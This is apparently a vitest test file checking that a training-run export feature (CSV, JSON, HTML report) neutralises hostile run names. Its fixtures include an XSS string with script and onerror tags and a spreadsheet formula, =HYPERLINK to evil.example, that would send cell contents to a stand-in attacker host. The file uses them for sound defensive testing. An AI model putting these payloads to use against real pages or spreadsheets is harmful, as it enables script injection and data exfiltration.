import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { parseHTML } from 'linkedom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RUN_EXPORT_FORMATS } from '../../shared/contract/comparison.ts';
import type { Writer } from '../../main/store/open-store.ts';
import { insertMetrics, updateRun } from '../../main/store/runs.ts';
import type { Studio } from '../../main/studio/studio.ts';
import { insertMeasuredRun, storeOf } from '../support/measured-runs.ts';
import { openStudioAt } from '../support/workspace.ts';

/** What somebody may call a run, to break out of a page or a table. */
const HOSTILE = `</title><script>alert(1)</script>"'><img src=x onerror=alert(2)>&amp;\u202e\u0000\ud800`;
const FORMULA = '=HYPERLINK("http://evil.example/"&A1)';

let home: string;
let studio: Studio;
let store: Writer;
beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), 'strata-export-'));
  studio = openStudioAt(home);
  store = storeOf(home);
  const before = { new: [3, 4, 5, 6], old: [2, 2, 3, 3] };
  insertMeasuredRun(store, { id: 'a', name: 'plain', before, after: { new: [2, 3, 4, 5], old: [2.5, 2.5, 3.5, 3.5] } });
  const hostileData = [
    { id: 'code-1', name: HOSTILE, role: 'new' as const, hash: 'b'.repeat(64) },
    { id: 'stories-1', name: 'stories', role: 'old' as const, hash: 'c'.repeat(64) },
  ];
  insertMeasuredRun(store, {
    ...{ id: 'b', name: HOSTILE, note: `${HOSTILE}\nsecond, "quoted" line`, tags: [HOSTILE, FORMULA] },
    ...{ before, after: { new: [2.5, 3, 4, 5], old: [2.1, 2.1, 3.1, 3.1] } },
    configuration: { datasets: hostileData, baseModel: { id: 'base-1', name: HOSTILE, hash: 'a'.repeat(64) } },
  });
  updateRun(store, 'b', {
    warnings: [{ at: '2026-01-02T03:04:30.000Z', text: HOSTILE }],
    guardEvents: [{ step: 20, at: '2026-01-02T03:04:40.000Z', action: 'warn', found: 0.06, limit: 0.05, text: HOSTILE }],
  });
  insertMeasuredRun(store, { id: 'c', name: FORMULA, before, after: null });
});
afterAll(async () => {
  store.close();
  await studio.close();
  await rm(home, { recursive: true });
});

const fileOf = async (runs: string[], format: (typeof RUN_EXPORT_FORMATS)[number], baseline: string | null = null): Promise<string> =>
  (await studio.runExport.export({ runs, format, baseline })).text;

describe('tables', () => {
  it('of runs have a row for each, with its figures', async () => {
    const rows = parse<Record<string, string>>(await fileOf(['a', 'b', 'c'], 'runs.csv'), { columns: true });
    expect(rows).toHaveLength(3);
    const run = studio.runs.show('a');
    expect(rows[0]).toMatchObject({
      id: 'a',
      name: 'plain',
      status: 'done',
      'new data': 'code',
      'old data': 'stories',
      'replay share': '0.1',
    });
    expect([Number(rows[0]!.gain), Number(rows[0]!['old loss after'])]).toEqual([run.gain, run.final!.old!.loss]);
    expect(rows[2]!.gain).toBe('');
    expect(rows[1]!.note).toContain('\nsecond, "quoted" line');
  });

  it('give a spreadsheet no formula to run', async () => {
    const rows = parse(await fileOf(['a', 'b', 'c'], 'runs.csv'), {});
    expect(rows[3]![1]).toBe(`'${FORMULA}`);
    for (const cell of rows.flat()) if (Number.isNaN(Number(cell))) expect(cell).not.toMatch(/^[=+@\t\r-]/);
  });

  it('of points have all of them', async () => {
    const rows = parse<Record<string, string>>(await fileOf(['a', 'b'], 'metrics.csv'), { columns: true });
    expect(rows).toHaveLength(8);
    expect(rows[0]).toEqual({
      run: 'a',
      name: 'plain',
      series: 'loss.new',
      step: '0',
      value: String(studio.runs.show('a').baseline!.new.loss),
    });
  });

  it('and JSON are refused where one file cannot hold the points', async () => {
    const many = store.prepare(
      "WITH RECURSIVE step(at) AS (VALUES (1) UNION ALL SELECT at + 1 FROM step WHERE at <= 2000000) INSERT INTO metrics SELECT 'c', 'loss.train', at, 1 FROM step",
    );
    many.run();
    for (const format of ['metrics.csv', 'json'] as const) {
      await expect(fileOf(['a', 'c'], format)).rejects.toMatchObject({ code: 'BAD_INPUT', allowed: 'up to 2000000 points' });
    }
    store.prepare("DELETE FROM metrics WHERE series = 'loss.train'").run();
  });
});

describe('JSON', () => {
  it('has the whole runs and their metrics', async () => {
    const { schemaVersion, runs } = JSON.parse(await fileOf(['a', 'b'], 'json')) as {
      schemaVersion: number;
      runs: Record<string, unknown>[];
    };
    expect(schemaVersion).toBe(1);
    const { metrics, ...run } = runs[0]!;
    expect(run).toEqual(studio.runs.show('a'));
    const { baseline, final } = studio.runs.show('a');
    expect(metrics).toMatchObject({
      'loss.old': [
        [0, baseline!.old!.loss],
        [40, final!.old!.loss],
      ],
      drift: [],
    });
  });
});

describe('a report', () => {
  it.each([
    ['of one run', ['b'], null],
    ['of several', ['a', 'b', 'c'], 'b'],
  ] as const)('%s holds nothing that runs or is fetched, whatever things are called', async (_, runs, baseline) => {
    const { document } = parseHTML(await fileOf([...runs], 'report.html', baseline));
    expect(document.querySelectorAll('script, img, link, iframe, object, embed, base, form')).toHaveLength(0);
    const attributes = [...document.querySelectorAll('*')].flatMap((element) => [...element.attributes]);
    expect(attributes.filter(({ name }) => /^on|^(src|href|action|style)$/.test(name))).toEqual([]);
    expect(document.querySelector('meta[http-equiv="Content-Security-Policy"]')!.getAttribute('content')).toMatch(/default-src 'none'/);
    expect(document.querySelector('style')!.textContent).not.toMatch(/url\(|@import/);
    expect(document.body.textContent).toContain('<script>alert(1)</script>'); // as the text that it is
  });

  it('of one run tells its figures with errors and how much they were measured on', async () => {
    const { document } = parseHTML(await fileOf(['a'], 'report.html'));
    const text = document.body.textContent.replace(/\s+/g, ' ');
    expect(text).toContain('+1.0000 \u00b1 0.0200');
    expect(text).toContain('5.0000 \u2192 4.0000 on 100 new tokens');
    expect(document.querySelectorAll('svg.chart polyline.line')).toHaveLength(2);
    expect([...document.querySelectorAll('.block')].map((block) => block.textContent)).toEqual(['0', '1', '2', '3', 'copy of 3']);
    expect(document.title).toBe('plain');
  });

  it('of several draws each run with its error bars, the best trades and the verdicts', async () => {
    const { document } = parseHTML(await fileOf(['a', 'b', 'c'], 'report.html', 'a'));
    expect(document.querySelectorAll('svg.chart path.error')).toHaveLength(2);
    expect(document.querySelectorAll('svg.chart circle.ring')).toHaveLength(1);
    const text = document.body.textContent.replace(/\s+/g, ' ');
    expect(text).toContain('Forgetting at equal gain');
    expect(text).toContain('cannot tell');
    expect(text).toMatch(/Not measured|no measurement at its end/);
    // Places are numbers, on the page.
    for (const circle of document.querySelectorAll('svg.chart circle')) {
      expect(Number(circle.getAttribute('cx'))).toBeGreaterThan(0);
      expect(Number(circle.getAttribute('cy'))).toBeLessThan(300);
    }
  });

  it('is drawn of a run with one point, with none, and of values far apart', async () => {
    const before = { new: [3, 3, 3, 3], old: [2, 2, 2, 2] };
    insertMeasuredRun(store, { id: 'one', before, after: null, course: [[0, 3, 2]] });
    insertMeasuredRun(store, { id: 'none', before, after: null, course: [] });
    insertMeasuredRun(store, { id: 'far', before, after: { new: [1, 1, 1, 1], old: [2, 2, 2, 2] } });
    insertMetrics(store, 'far', [{ step: 20, series: 'loss.new', value: 1e12 }]);
    for (const run of ['one', 'none', 'far']) expect(await fileOf([run], 'report.html')).not.toMatch(/NaN|Infinity|undefined/);
    expect(await fileOf(['one', 'none', 'far'], 'report.html')).not.toMatch(/NaN|Infinity|undefined/);
  });

  it('is written where it is wanted', async () => {
    const path = join(home, 'report.html');
    const { bytes } = await studio.runExport.writeTo({ runs: ['a', 'b'], format: 'report.html', baseline: null }, path);
    expect((await readFile(path)).length).toBe(bytes);
    await expect(studio.runExport.writeTo({ runs: ['a'], format: 'json', baseline: null }, join(home, 'no', 'x.json'))).rejects.toThrow();
  });
});
